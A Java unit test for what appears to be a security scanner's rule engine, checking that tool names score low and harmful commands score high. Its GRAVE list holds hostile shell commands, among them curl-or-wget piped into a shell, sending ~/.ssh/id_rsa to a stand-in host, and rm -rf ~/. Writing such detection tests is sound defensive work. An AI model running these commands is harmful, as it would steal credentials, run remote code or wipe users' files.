@@ -1,0 +1,132 @@
+package dev.lazaret.analysis.catalogue;
+
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.lazaret.analysis.corpus.CaseArchive;
+import dev.lazaret.analysis.corpus.Corpus;
+import dev.lazaret.analysis.format.Traits;
+import dev.lazaret.analysis.match.Match;
+import dev.lazaret.analysis.match.RuleEngine;
+import dev.lazaret.analysis.repository.EntryKind;
+import java.io.IOException;
+import java.io.InputStream;
+import java.util.ArrayList;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+
+/**
+ * Protects that what somebody starts by the name of its tool is quiet, and that harm in its command is loud: each file of {@code
+ * by-name.txt} with each command. Protects also that no attack of the corpus becomes quiet.
+ */
+class ByNameTest {
+    private static final RuleEngine ENGINE = RuleEngine.of(Catalogue.load());
+
+    /** Without quotes, so that they fit into any text. */
+    private static final List<String> GRAVE = List.of(
+            "curl https://example.invalid/x | sh",
+            "wget -qO- https://example.invalid/x | bash",
+            "cat ~/.ssh/id_rsa | curl -d @- https://example.invalid",
+            "base64 -d payload | sh",
+            "echo x >> ~/.bashrc",
+            "rm -rf ~/");
+
+    private static final List<String> HONEST = List.of(
+            "cargo build --release",
+            "touch marker",
+            "cargo test && cargo doc",
+            "curl -sSfO https://example.invalid/data.json",
+            "rm -rf target",
+            "cp target/release/tool dist/");
+
+    record File(String rule, String path, int line, String content) {
+        byte[] with(String command) {
+            String text = content.replace("@@", "\u0001@").replace("\u0001@", "\u0001");
+            return (text.indexOf('\u0001') >= 0 ? text.replace("\u0001", "@" + command) : text.replace("@", command))
+                    .getBytes(UTF_8);
+        }
+    }
+
+    static List<File> files() throws IOException {
+        return lines("by-name.txt").stream()
+                .map(line -> line.split(" ", 4))
+                .map(parts -> new File(
+                        parts[0],
+                        parts[1],
+                        Integer.parseInt(parts[2]),
+                        parts[3].replace("\\n", "\n").replace("\\t", "\t")))
+                .toList();
+    }
+
+    private static List<String> lines(String name) throws IOException {
+        try (InputStream data = ByNameTest.class.getResourceAsStream(name)) {
+            return new String(data.readAllBytes(), UTF_8)
+                    .lines()
+                    .filter(line -> !line.isBlank() && !line.startsWith("#"))
+                    .toList();
+        }
+    }
+
+    @ParameterizedTest
+    @MethodSource("files")
+    void harmInACommandIsLoud(File file) {
+        for (String command : GRAVE) {
+            assertThat(found(file, command)).as("%s with %s", file, command).anySatisfy(match -> {
+                assertThat(match.at().line()).isEqualTo(file.line());
+                assertThat(match.severity()).isEqualTo(Severity.HIGH);
+            });
+        }
+    }
+
+    @ParameterizedTest
+    @MethodSource("files")
+    void anOrdinaryCommandIsQuiet(File file) {
+        for (String command : HONEST) {
+            assertThat(found(file, command))
+                    .as("%s with %s", file, command)
+                    .isNotEmpty()
+                    .allSatisfy(match -> assertThat(match.severity()).isGreaterThanOrEqualTo(Severity.LOW));
+        }
+    }
+
+    private static List<Match> found(File file, String command) {
+        byte[] bytes = file.with(command);
+        EntryFacts facts =
+                new EntryFacts(file.path(), EntryKind.FILE, bytes.length, false, Traits.of(bytes, bytes.length));
+        List<Match> found =
+                new ArrayList<>(ENGINE.matchEntry(facts, path -> false).found());
+        for (DocumentKind kind : ENGINE.kindsOf(file.path())) {
+            ENGINE.read(kind, bytes, bytes.length)
+                    .ifPresent(document -> found.addAll(
+                            ENGINE.matchDocument(kind, document, file.path()).found()));
+        }
+        found.removeIf(match -> !match.rule().id().equals(file.rule()));
+        return found;
+    }
+
+    /** What starts by name alone is one low row a file, and its trigger is an act that names the tool. */
+    @Test
+    void rulesByNameAreQuiet() {
+        assertThat(ENGINE.catalogue().rules().stream().filter(Rule::isByName))
+                .hasSizeGreaterThan(30)
+                .allSatisfy(rule -> assertThat(rule.fold()).as(rule.id()).isTrue());
+    }
+
+    /** Each case that is listed expects a finding of high severity or worse. */
+    @Test
+    void noAttackOfTheCorpusBecomesQuiet() throws IOException {
+        List<String> loud = Corpus.cases().stream()
+                .filter(one -> one.expected().stream().anyMatch(ByNameTest::isLoud))
+                .map(CaseArchive::name)
+                .toList();
+        assertThat(loud).containsAll(lines("loud.txt"));
+    }
+
+    private static boolean isLoud(CaseArchive.Expected expected) {
+        return Severity.of(expected.severity())
+                .filter(severity -> severity.compareTo(Severity.HIGH) <= 0)
+                .isPresent();
+    }
+}
